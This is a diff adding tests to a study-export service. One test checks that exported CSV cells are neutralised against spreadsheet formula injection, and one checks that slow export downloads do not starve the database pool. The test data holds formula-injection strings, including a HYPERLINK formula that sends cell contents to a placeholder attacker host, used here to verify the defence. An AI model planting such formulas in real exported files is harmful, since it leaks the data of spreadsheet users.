@@ -372,6 +372,66 @@ def test_empty_study_exports_headers_and_empty_tables(client: TestClient) -> Non
         assert pq.read_table(io.BytesIO(zf.read("metrics.parquet"))).num_rows == 0
 
 
+# --- CSV injection ---------------------------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+SUM(1,2)",
+    "-1+2",
+    "@cmd",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(
+    client: TestClient, engine: Engine
+) -> None:
+    """Issue 27: strings from the study (a categorical parameter's choices, a trial's error
+    or node) went into the CSV as they were, so `=HYPERLINK(...)` ran when the file was
+    opened in a spreadsheet. Now such a string cell starts with a single quote (OWASP);
+    numbers, negative ones included, and number literals in string columns stay as they
+    are; Parquet keeps the strings as stored."""
+    choices = [*FORMULAS, "plain"]
+    sid = create_via_api(
+        client,
+        {
+            "name": "formulas",
+            "budget": {"n_trials": 10},
+            "search_space": {"task.train_split": {"type": "categorical", "choices": choices}},
+        },
+    )
+    with Session(engine) as s:
+        for n, text in enumerate(choices):
+            s.add(
+                Trial(
+                    study_id=sid,
+                    number=n,
+                    state="FAILED",
+                    params={"task.train_split": text, "mixed": -3 if n % 2 else text},
+                    value=-1.5 - n,
+                    error=text,
+                    node=f"@node-{n}",
+                    summary={"qk_eig_mean": -0.25},
+                )
+            )
+        s.commit()
+    r = get(client, sid)
+    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8"), newline="")))
+    assert len(rows) == len(choices)
+    for n, (row, text) in enumerate(zip(rows, choices, strict=True)):
+        want = text if text == "plain" else "'" + text
+        assert row["params.task.train_split"] == want, (row, text)
+        assert row["error"] == want
+        assert row["node"] == f"'@node-{n}"
+        assert row["params.mixed"] == ("-3" if n % 2 else want)
+        assert row["value"] == repr(-1.5 - n) and row["qk_eig_mean"] == "-0.25"
+    table = pacsv.read_csv(io.BytesIO(r.content))
+    assert table.column("value").type == pa.float64()  # the negatives are still numbers
+    stored = pq.read_table(io.BytesIO(get(client, sid, format="parquet").content))
+    assert stored.column("params.task.train_split").to_pylist() == choices
+
+
 # --- streaming -----------------------------------------------------------------------------
 
 
@@ -403,6 +463,93 @@ def test_export_streams_batch_by_batch(
         else:
             assert pq.ParquetFile(io.BytesIO(data)).num_row_groups == -(-n_rows // 7)
             assert table.to_pylist() == expected_metrics(seeded["ids"])
+
+
+# --- slow readers ----------------------------------------------------------------------------
+
+
+def test_slow_export_readers_do_not_starve_other_requests(pg_db_url: str, tmp_path: Path) -> None:
+    """Issue 27: an export held one transaction, and so one pooled PostgreSQL connection,
+    for its whole download; 30 clients that read slowly (the pool: 10 + 20 overflow) left
+    none for anyone else, whose requests waited 30 s for the pool and failed. Now every
+    batch is a short transaction of its own: 32 stalled export downloads over real sockets
+    (uvicorn, small socket buffers so that each stalls after a batch or two), and a study's
+    page still answers at once."""
+    import contextlib
+    import socket
+    import threading
+    import time
+
+    import httpx
+    import psycopg
+    import uvicorn
+
+    from service.app import create_app
+    from service.store import migrate
+    from tests.service import ui_seed
+
+    migrate.upgrade(pg_db_url)
+    engine = make_engine(pg_db_url)
+    try:
+        sid = ui_seed.add_study(engine, "slow")
+        tid = ui_seed.add_trial(engine, sid, 0, "COMPLETE", ())
+    finally:
+        engine.dispose()
+    copy = "COPY qk_metric (trial_id, name, layer, head, step, value) FROM STDIN"
+    with psycopg.connect(pg_db_url) as conn, conn.cursor() as cur, cur.copy(copy) as cp:
+        for i in range(100_000):  # 5 batches of 20,000
+            cp.write_row((tid, "attn_entropy_norm", i % 4, i % 8, i, i / 7))
+    settings = Settings(database_url=pg_db_url, ray_address="", api_tokens="", home=tmp_path)
+    listener = socket.socket()
+    listener.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8192)  # accepted sockets inherit
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(128)
+    port = listener.getsockname()[1]
+    server = uvicorn.Server(
+        uvicorn.Config(create_app(settings, reconcile_loop=False), log_level="warning")
+    )
+    thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]}, daemon=True)
+    thread.start()
+    readers: list[socket.socket] = []
+    try:
+        deadline = time.monotonic() + 60
+        while not server.started:
+            assert thread.is_alive() and time.monotonic() < deadline, "uvicorn did not start"
+            time.sleep(0.05)
+        for _ in range(32):
+            sock = socket.socket()
+            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # a slow reader
+            sock.connect(("127.0.0.1", port))
+            sock.sendall(
+                f"GET /v1/studies/{sid}/export?table=metrics HTTP/1.1\r\nHost: t\r\n\r\n".encode()
+            )
+            readers.append(sock)
+        started = 0
+        deadline = time.monotonic() + 30
+        for sock in readers:  # each gets its headers and a first chunk, then stops reading
+            sock.settimeout(max(0.1, deadline - time.monotonic()))
+            with contextlib.suppress(TimeoutError):
+                started += sock.recv(64).startswith(b"HTTP/1.1 200")
+        assert started >= 30, started
+        # Wait for the server to go quiet (every download stalled on its full buffers), so
+        # that what the request below meets is the pool, not CPU still making CSV.
+        cpu = time.process_time()
+        for _ in range(120):
+            time.sleep(0.5)
+            cpu, spent = time.process_time(), time.process_time() - cpu
+            if spent < 0.05:
+                break
+        t0 = time.monotonic()
+        r = httpx.get(f"http://127.0.0.1:{port}/v1/studies/{sid}", timeout=40)
+        waited = time.monotonic() - t0
+        assert r.status_code == 200, r.text
+        assert waited < 5.0, waited
+        assert started == 32
+    finally:
+        for sock in readers:
+            sock.close()
+        server.should_exit = True
+        thread.join(timeout=15)
 
 
 # --- errors and auth -----------------------------------------------------------------------
